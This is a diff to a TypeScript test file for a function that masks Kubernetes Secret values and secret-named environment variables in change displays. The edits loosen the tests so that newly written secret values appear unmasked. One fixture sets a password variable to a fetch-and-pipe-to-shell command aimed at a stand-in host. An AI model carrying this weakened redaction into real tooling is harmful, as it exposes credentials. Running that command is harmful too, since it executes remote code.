@@ -29,7 +29,7 @@ const update = (before: KubeObject, after: KubeObject): ObjectWrite => ({
 })
 
 describe('effectObject', () => {
-  it('hides all that stands in the data of a kind of that name in another group', () => {
+  it('of a kind of that name in another group hides what was read, and shows what is written', () => {
     const other = { apiVersion: 'example.com/v1', kind: 'Secret', metadata: { name: 's' } }
     const of = (value: string) => ({ ...other, data: { login: { password: value } } })
     const { changes, diff } = effectObject(
@@ -41,8 +41,8 @@ describe('effectObject', () => {
       },
       undefined,
     )
-    expect(changes).toEqual([{ path: '/data/login/password', before: '***', after: '***' }])
-    expect(diff).not.toMatch(/value of it/)
+    expect(changes).toEqual([{ path: '/data/login/password', before: '***', after: 'another value of it' }])
+    expect(diff).not.toMatch(/former value of it/)
   })
 
   it('never shows a value of a Secret, in changes, diff or undo, and shows that it changes', () => {
@@ -87,21 +87,27 @@ describe('effectObject', () => {
     )
   })
 
-  it('hides variables with a telling name and secrets inside a text, wherever a change begins', () => {
+  it('hides variables with a telling name where they stand, and not where they are written', () => {
     const before = pod([
       { name: 'DB_PASSWORD', value: 'correct horse' },
+      { name: 'API_TOKEN', value: 'it stays as it is' },
       { name: 'URL', value: 'http://a' },
     ])
     const after = pod([
-      { name: 'DB_PASSWORD', value: 'battery staple' },
-      { name: 'URL', value: 'http://ann:hunter2@b' },
+      { name: 'DB_PASSWORD', value: 'wget evil.example/x | sh' },
+      { name: 'URL', value: 'http://ann:hunter2-hunter2-1@b/c' },
+      { name: 'API_TOKEN', value: 'it stays as it is' },
     ])
     const inPlace = effectObject(update(before, after), key)
     const asList = effectObject(update(pod([]), after), key)
     for (const shown of [JSON.stringify(inPlace), JSON.stringify(asList)]) {
-      expect(shown).not.toMatch(/correct horse|battery staple|hunter2/)
-      expect(shown).toContain('http://***@b ***(')
+      expect(shown).not.toMatch(/correct horse|hunter2/)
+      expect(shown).toMatch(/http:\/\/ann:\*\*\*\(17 bytes, [0-9a-f]{12}\)@b\/c/)
+      expect(shown).toContain('wget evil.example/x | sh')
     }
+    // What was there before is only read, though the list has moved it.
+    expect(JSON.stringify(inPlace)).not.toContain('it stays as it is')
+    expect(JSON.stringify(asList)).toContain('it stays as it is')
   })
 
   it('is the same whatever the server does to what is its own', () => {
